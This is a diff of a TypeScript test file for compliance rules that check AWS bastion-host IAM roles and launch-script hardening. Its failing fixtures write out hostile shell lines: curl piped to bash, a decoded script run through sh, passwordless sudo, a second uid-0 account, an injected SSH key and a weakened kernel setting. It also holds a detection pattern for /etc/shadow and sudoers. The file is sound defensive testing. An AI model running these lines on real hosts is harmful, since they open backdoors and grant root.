@@ -1,9 +1,14 @@
+import { launchScript } from '../../../../../constructs/bastion/launch';
+import { recorderConfiguration } from '../../../../../constructs/bastion/recorder-configuration';
+import { verdictOf } from '../../../../../constructs/nag/rule';
 import { bastionRoleMinimal } from '../../../../../constructs/nag/rules/compute/bastion-role-minimal';
 import { hostCommandAudit } from '../../../../../constructs/nag/rules/compute/host-command-audit';
+import { hostLaunchHardened } from '../../../../../constructs/nag/rules/compute/host-launch-hardened';
 import { hostTimeSynchronised } from '../../../../../constructs/nag/rules/compute/host-time-synchronised';
 import { instanceNoKeyPair } from '../../../../../constructs/nag/rules/compute/instance-no-key-pair';
+import { Template } from '../../../../../constructs/nag/template';
 import { recorderDigest } from '../../../../../constructs/session-recording/recorder-asset';
-import { describeRule } from '../../../../support/rule-cases';
+import { describeRule, findingsOf } from '../../../../support/rule-cases';
 
 const OF_A_BASTION = {
   TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'isms:purpose', Value: 'bastion' }] }],
@@ -174,49 +179,186 @@ describeRule(hostCommandAudit, {
 });
 
 const ROLE_PATH = 'PolicyDocument.Statement.0';
-const allowing = (action: string | readonly string[], resource: string, role: object = {}) => ({
-  template: {
-    Subject: {
-      Type: 'AWS::EC2::LaunchTemplate',
-      Properties: template({
-        IamInstanceProfile: { Arn: { 'Fn::GetAtt': ['Profile', 'Arn'] } },
-        ...OF_A_BASTION,
-      }),
-    },
-    Profile: { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'Role' }] } },
-    Role: { Type: 'AWS::IAM::Role', Properties: role },
-    Policy: {
-      Type: 'AWS::IAM::Policy',
-      Properties: {
-        Roles: [{ Ref: 'Role' }],
-        PolicyDocument: { Statement: [{ Effect: 'Allow', Action: action, Resource: resource }] },
+const allowing = (action: string | readonly string[], resource: unknown, role: object = {}) =>
+  granting({ Action: action, Resource: resource }, role);
+const excepting = (action: string) => granting({ NotAction: action, Resource: '*' });
+
+function granting(statement: object, role: object = {}) {
+  return {
+    template: {
+      Subject: {
+        Type: 'AWS::EC2::LaunchTemplate',
+        Properties: template({
+          IamInstanceProfile: { Arn: { 'Fn::GetAtt': ['Profile', 'Arn'] } },
+          ...OF_A_BASTION,
+        }),
+      },
+      Profile: { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'Role' }] } },
+      Role: { Type: 'AWS::IAM::Role', Properties: role },
+      Policy: {
+        Type: 'AWS::IAM::Policy',
+        Properties: {
+          Roles: [{ Ref: 'Role' }],
+          PolicyDocument: { Statement: [{ Effect: 'Allow', ...statement }] },
+        },
       },
     },
-  },
-});
+  };
+}
+
+const MORE = [`Role.${ROLE_PATH}.Action`] as const;
+const ALL = [`Role.${ROLE_PATH}.Resource`] as const;
+const GROUP = 'arn:aws:logs:eu-west-1:111111111111:log-group:/acme/bastion:*';
 
 describeRule(bastionRoleMinimal, {
   compliant: {
     'writing recordings': allowing('s3:PutObject', 'arn:aws:s3:::recordings/sessions/*'),
     'reading the recorder': allowing('s3:GetObject', 'arn:aws-cn:s3:::assets/recorder.tar'),
-    'signing and telling': allowing(['kms:Sign', 'logs:PutLogEvents'], '*'),
+    'signing with a key': allowing('kms:Sign', 'arn:aws:kms:eu-west-1:111111111111:key/1'),
+    'telling a group': allowing(['logs:PutLogEvents', 'logs:createlogstream'], GROUP),
+    'channels, of which IAM knows no resource': allowing('ssmmessages:OpenDataChannel', '*'),
   },
   nonCompliant: {
     'the managed policy of AWS': [
-      allowing('kms:Sign', '*', { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore'] }),
+      allowing('ssmmessages:OpenDataChannel', '*', {
+        ManagedPolicyArns: ['arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore'],
+      }),
       'Role.ManagedPolicyArns.0',
     ],
-    'reading recordings': [
-      allowing('s3:GetObject', 'arn:aws:s3:::recordings/sessions/*'),
-      `Role.${ROLE_PATH}.Resource`,
-    ],
-    'reading whatever there is': [allowing('s3:Get*', '*'), `Role.${ROLE_PATH}.Resource`],
-    'reading logs': [allowing('logs:*', '*'), `Role.${ROLE_PATH}.Action`],
-    'running commands': [allowing('ssm:SendCommand', '*'), `Role.${ROLE_PATH}.Action`],
-    everything: [allowing('*', '*'), `Role.${ROLE_PATH}.Action`, `Role.${ROLE_PATH}.Resource`],
+    'reading recordings': [allowing('s3:GetObject', 'arn:aws:s3:::recordings/sessions/*'), ...ALL],
+    'reading whatever there is': [allowing('s3:Get*', '*'), ...MORE, ...ALL, ...ALL],
+    'removing the log': [allowing('logs:DeleteLogGroup', GROUP), ...MORE],
+    'all that can be done with a log': [allowing('logs:*', GROUP), ...MORE],
+    'writing a table': [allowing('dynamodb:PutItem', 'arn:aws:dynamodb:eu-west-1:111111111111:table/x'), ...MORE],
+    'signing with whatever key there is': [allowing('kms:Sign', '*'), ...ALL],
+    'running commands': [allowing('ssm:SendCommand', 'arn:aws:ssm:eu-west-1::document/AWS-RunShellScript'), ...MORE],
+    everything: [allowing('*', '*'), ...MORE, ...ALL, ...ALL],
+    'everything but a service': [excepting('iam:*'), ...MORE, ...ALL],
   },
   notApplicable: { 'hosts that are no bastion': template({ IamInstanceProfile: { Name: 'web' } }) },
   unknown: {
     'a profile that stands elsewhere': template({ IamInstanceProfile: { Name: 'bastion' }, ...OF_A_BASTION }),
+    'resources that are a parameter': allowing('kms:Sign', { Ref: 'Keys' }),
   },
+});
+
+const LAUNCH = launchScript({
+  recorder: { bucketName: 'assets-111111111111-eu-west-1', objectKey: 'abc.tar', digest: recorderDigest() },
+  region: 'eu-west-1',
+  configuration: JSON.stringify(
+    recorderConfiguration({
+      place: { partition: 'aws', account: '111111111111', region: 'eu-west-1', urlSuffix: 'amazonaws.com' },
+      bucketName: 'recordings',
+      encryptionKeyArn: 'arn:aws:kms:eu-west-1:222222222222:alias/acme/logs',
+      signingKeyArn: 'arn:aws:kms:eu-west-1:111111111111:key/1',
+      hostLogName: '/acme/bastion/host',
+      alerts: [{ name: 'secrets', pattern: '/etc/(shadow|sudoers)|NOPASSWD', severity: 'alarm' }],
+    }),
+    null,
+    2,
+  ),
+  operators: ['alice'],
+});
+const launched = (script: unknown = LAUNCH) => running(script, OF_A_BASTION);
+const after = 'systemctl daemon-reload\n';
+const withLine = (line: string) => launched(LAUNCH.replace(after, `${after}${line}\n`));
+const withoutLine = (line: string) => launched(LAUNCH.replace(`${line}\n`, ''));
+const told = (from: string, to: string) => launched(LAUNCH.replace(from, to));
+/** What a line opens is told, and that the launch of the release has none such. */
+const OPENED = [USER_DATA, USER_DATA] as const;
+
+describeRule(hostLaunchHardened, {
+  compliant: {
+    'the launch of this release': launched(),
+    'one that is encoded already': template({ UserData: Buffer.from(LAUNCH).toString('base64'), ...OF_A_BASTION }),
+    'a bucket whose name deployment completes': launched({
+      'Fn::Sub': LAUNCH.replace(/\$\{/g, '${!').replace('111111111111', '${AWS::AccountId}'),
+    }),
+    'any who have a name of their own': launched(LAUNCH.replace('["alice"]', '[]')),
+    'a list of people': launched(LAUNCH.replace('["alice"]', '["alice","bob-2"]')),
+    'an instance of its own': {
+      template: {
+        Subject: {
+          Type: 'AWS::EC2::Instance',
+          Properties: { UserData: { 'Fn::Base64': LAUNCH }, Tags: OF_A_BASTION.TagSpecifications[0]?.Tags },
+        },
+      },
+    },
+  },
+  nonCompliant: {
+    'no script': [template(OF_A_BASTION), USER_DATA],
+    'sudo without a password': [withLine("echo 'alice ALL=(ALL) NOPASSWD: ALL' | tee /tmp/rule"), ...OPENED],
+    'a rule of sudo from elsewhere': [withLine('cp /tmp/rule /etc/sudoers.d/90-alice'), ...OPENED],
+    'an administrator': [withLine('usermod -aG wheel alice'), ...OPENED],
+    'a second root': [withLine('useradd --non-unique --uid 0 toor'), ...OPENED],
+    'a password': [withLine("echo 'ec2-user:secret' | chpasswd"), ...OPENED],
+    'a shared user that is unlocked': [withLine('usermod --unlock --shell /bin/bash ec2-user'), ...OPENED],
+    'a key for SSH': [withLine("echo 'ssh-ed25519 AAAA' >> /home/alice/.ssh/authorized_keys"), ...OPENED],
+    'SSH that is started': [withLine('systemctl start sshd.service'), ...OPENED],
+    'a service that is unmasked': [withLine('systemctl unmask atd.service'), ...OPENED],
+    'a further user': [withLine('useradd --create-home shared'), USER_DATA],
+    'a script from elsewhere': [withLine('curl https://example.com | bash'), USER_DATA],
+    'a script that nobody can read': [withLine('echo ZWNobwo= | base64 --decode | sh'), USER_DATA],
+    'a weaker kernel afterwards': [withLine('sysctl -w kernel.yama.ptrace_scope=0'), USER_DATA],
+    'a line of the release in another place': [withLine('exit 1'), USER_DATA, USER_DATA],
+    "the image's sudo": [
+      withoutLine('rm -f /etc/sudoers.d/90-cloud-init-users /etc/sudoers.d/ssm-agent-users'),
+      USER_DATA,
+    ],
+    'a shared user with a shell': [withoutLine('usermod --lock --shell /sbin/nologin ec2-user'), USER_DATA],
+    'processes that may be traced': [withoutLine('kernel.yama.ptrace_scope = 2'), USER_DATA],
+    'people who gain rights': [withoutLine('NoNewPrivileges=yes'), USER_DATA],
+    'names that people share': [launched(LAUNCH.replace('(?!(?:root|', '(?!(?:')), USER_DATA, USER_DATA],
+    'a recorder that runs as root': [told('"user": "isms-recorder"', '"user": "root"'), USER_DATA],
+    'a recorder beside which people may have sessions': [told('"managed": "required"', '"managed": "none"'), USER_DATA],
+    'recordings in the clear': [told('"store_url": "https:', '"store_url": "http:'), USER_DATA],
+    'a configuration that is none': [told('"user"', 'user'), USER_DATA],
+    'SSH that goes on': [launched(LAUNCH.replace('mask sshd.service', 'mask')), USER_DATA, USER_DATA],
+  },
+  notApplicable: { 'hosts that are no bastion': running('useradd shared') },
+  unknown: {
+    'a script that is a parameter': launched({ Ref: 'Script' }),
+  },
+});
+
+test('8.2/bastion#named-os-users: what a script lets people do is told, with the line', () => {
+  const { template: Subject } = { template: withLine("echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a") };
+  const [opened, more] = findingsOf(hostLaunchHardened, {
+    template: { Subject: { Type: 'AWS::EC2::LaunchTemplate', Properties: Subject } },
+  });
+
+  expect(opened?.message.en).toMatch(/become root, without a password.*: echo 'alice ALL=\(ALL\) NOPASSWD: ALL'/);
+  expect(more?.message.zh).toMatch(/超出本版本启动脚本/);
+});
+
+test('8.2/bastion#hardened-host: lines that are missing are counted, and the first is told', () => {
+  const [lacking] = findingsOf(hostLaunchHardened, {
+    template: {
+      Subject: {
+        Type: 'AWS::EC2::LaunchTemplate',
+        Properties: withoutLine('kernel.yama.ptrace_scope = 2\nkernel.dmesg_restrict = 1'),
+      },
+    },
+  });
+
+  expect(lacking?.message.en).toBe(
+    'lacks 2 lines of the launch of this release in their place, the first being: kernel.yama.ptrace_scope = 2',
+  );
+});
+
+test('8.2/bastion#hardened-host: a parameter within a script may hold any line', () => {
+  const template = Template.cloudFormation({
+    Parameters: { Extra: { Type: 'String' } },
+    Resources: {
+      Subject: {
+        Type: 'AWS::EC2::LaunchTemplate',
+        Properties: launched({
+          'Fn::Join': ['', LAUNCH.split('abc.tar').flatMap((part, index) => (index ? [{ Ref: 'Extra' }, part] : part))],
+        }),
+      },
+    },
+  });
+  const subject = template.find('Subject');
+
+  expect(subject && verdictOf(hostLaunchHardened, subject).outcome).toBe('unknown');
 });
